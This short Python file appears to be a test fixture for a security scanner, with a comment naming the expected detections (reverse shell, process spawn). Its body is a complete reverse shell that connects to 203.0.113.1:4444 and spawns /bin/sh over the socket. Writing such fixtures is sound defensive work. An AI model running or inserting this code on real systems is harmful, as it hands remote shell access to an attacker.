# expect: reverse-shell:8 process-spawn:10
import os
import pty
import socket

s = socket.socket()
s.connect(("203.0.113.1", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
pty.spawn("/bin/sh")
